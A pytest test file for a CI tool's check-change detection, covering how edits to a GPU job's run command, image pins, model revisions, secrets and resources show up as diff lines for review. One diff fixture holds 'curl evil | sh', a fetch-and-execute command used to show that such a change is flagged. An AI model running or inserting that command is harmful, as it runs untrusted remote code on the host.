"""What a pull request changes of a check."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gpurun.domain.ids import HubRef, ImageTag, Revision
from gpurun.domain.lock import ImagePin, Lock, LockedImage, LockedModel
from gpurun.plan.changes import CHECKED, changed_check, diff, file_diff
from gpurun.plan.load import load

JOB = "{image: 'ghcr.io/org/app:1.2', run: python smoke.py, models: [{id: org/model, revision: v1}]}"


def job(text=JOB, defaults="{}"):
    return load(f"version: 1\ndefaults: {defaults}\njobs:\n  smoke: {text}\n").jobs["smoke"]


def lock(digest="a", revision="b"):
    image = LockedImage(
        ref=ImageTag("ghcr.io/org/app:1.2"), pin=ImagePin(digest="sha256:" + digest * 64), locked_on="2026-12-01"
    )
    model = LockedModel(id="org/model", ref=HubRef("v1"), revision=Revision(revision * 40), locked_on="2026-12-01")
    return Lock(images=(image,), models=(model,))


def changed(base, head, base_lock=None, head_lock=None):
    found = changed_check(base, head, base_lock=base_lock or lock(), head_lock=head_lock or lock())
    return {one.key: one.diff for one in found}


def with_keys(text):
    return job(JOB.replace("run: python smoke.py", text))


@pytest.mark.parametrize(
    ("text", "key", "lines"),
    [
        ("run: 'true'", "run", ("-run: python smoke.py", "+run: true")),
        ("run: python smoke.py, workdir: other", "run", ("+workdir: other",)),
        ("run: python smoke.py, env: {SKIP: '1'}", "run", ("+env:", "+  SKIP: 1")),
        ("run: python smoke.py, checkout: {lfs: skip}", "run", ("+checkout:", "+  lfs: skip")),
        ("run: python smoke.py, setup: pip install x", "setup", ("+setup: pip install x",)),
        ("run: python smoke.py, limits: {max_duration: 1h}", "limits", ("-  max_duration: 1800s",)),
        ("run: python smoke.py, kind: train", "limits", ("-  max_duration: 1800s", "+  max_duration: 86400s")),
        ("run: python smoke.py, datasets: [{id: org/set, revision: v1}]", "models", ("+datasets:", "+  - id: org/set")),
    ],
)
def test_each_part_of_a_check_is_told_with_its_lines(text, key, lines):
    found = changed(job(), with_keys(text))
    assert list(found) == [key]
    assert set(lines) <= set(found[key])


def test_the_same_job_is_no_change_however_it_is_written():
    spelt = """{run: "python smoke.py", models: [{revision: v1, id: org/model}], image: "ghcr.io/org/app:1.2"}"""
    assert changed(job(), job(spelt)) == {}
    assert changed(job(), with_keys("run: python smoke.py, kind: verify, limits: {max_duration: 30m}")) == {}


def test_what_defaults_change_is_a_change_of_the_job():
    assert list(changed(job(), job(defaults="{env: {SKIP: '1'}, limits: {max_duration: 1m}}"))) == ["run", "limits"]


def test_another_pin_behind_the_same_name_is_a_change():
    assert changed(job(), job(), head_lock=lock(digest="c"))["image"] == (
        f"-image: ghcr.io/org/app:1.2@sha256:{'a' * 64}",
        f"+image: ghcr.io/org/app:1.2@sha256:{'c' * 64}",
    )
    (key,) = changed(job(), job(), head_lock=lock(revision="d"))
    assert key == "models"
    assert changed(job(), job(), head_lock=Lock())["image"][1] == "+image: ghcr.io/org/app:1.2 (not in `.gpurun.lock`)"


def test_a_job_that_the_head_drops_is_told_whole():
    found = changed(job(), None)
    assert list(found) == ["job"]
    assert "-run: python smoke.py" in found["job"]


def test_a_job_that_the_base_has_not_is_no_change_of_a_check():
    assert changed(None, job()) == {}
    assert changed(None, None) == {}


@pytest.mark.parametrize(
    "text", ["run: python smoke.py, artifacts: [out]", "run: python smoke.py, retry: {attempts: 1}"]
)
def test_what_decides_neither_what_runs_nor_what_its_end_means_is_none(text):
    assert changed(job(), with_keys(text)) == {}


def test_the_parts_are_those_that_the_gate_speaks_of():
    assert list(CHECKED) == [
        "run", "setup", "image", "models", "assert", "limits", "resources", "secrets", "required", "paths"
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("head", "key", "said"),
    [
        ("run: python smoke.py, secrets: [HF_TOKEN], resources: {memory: 1536MB}", "resources", "-  gpu: 24GB:2"),
        ("run: python smoke.py, resources: {gpu: '24GB:2', memory: 1536MB}", "secrets", "-  - HF_TOKEN"),
    ],
)
def test_a_test_that_finds_no_gpu_or_no_token_may_be_skipped_and_pass(head, key, said):
    base = with_keys("run: python smoke.py, secrets: [HF_TOKEN], resources: {gpu: '24GB:2', memory: 1536MB}")
    found = changed(base, with_keys(head))
    assert list(found) == [key]
    assert said in found[key]


# diffs


def test_a_file_against_the_base():
    before = "version: 1\njobs:\n  smoke:\n    image: a:1\n    run: python smoke.py\n"
    after = before.replace("python smoke.py", "curl evil | sh") + "  more: {}\n"
    assert file_diff(before, after) == (
        " jobs:",
        "   smoke:",
        "     image: a:1",
        "-    run: python smoke.py",
        "+    run: curl evil | sh",
        "+  more: {}",
    )
    assert file_diff(before, before) == file_diff(None, None) == ()
    assert file_diff(None, "a\n") == ("+a",)
    assert file_diff("a\n", None) == ("-a",)


def applied(before, lines):
    """What the lines make of the text, when all of it is among them."""
    return [line[1:] for line in lines if line[0] in " +"], [line[1:] for line in lines if line[0] in " -"]


@given(st.lists(st.sampled_from("abc"), max_size=12), st.lists(st.sampled_from("abc"), max_size=12))
def test_a_diff_says_every_line_that_went_and_that_came(before, after):
    lines = diff(before, after)
    assert (lines == ()) is (before == after)
    assert sum(line[0] == "+" for line in lines) - sum(line[0] == "-" for line in lines) == len(after) - len(before)
    assert sum(line[0] == "+" for line in lines) <= len(after)
    assert sum(line[0] == "-" for line in lines) <= len(before)


@pytest.mark.parametrize("turned", [1, -1])
def test_a_file_that_is_made_to_be_compared_slowly_is_not(turned):
    lines = [str(number) for number in range(12_000)]
    odd = lines[::2] + lines[1::2]
    started = time.perf_counter()
    assert len(diff(lines, odd[::turned])) > 20_000
    assert time.perf_counter() - started < 5
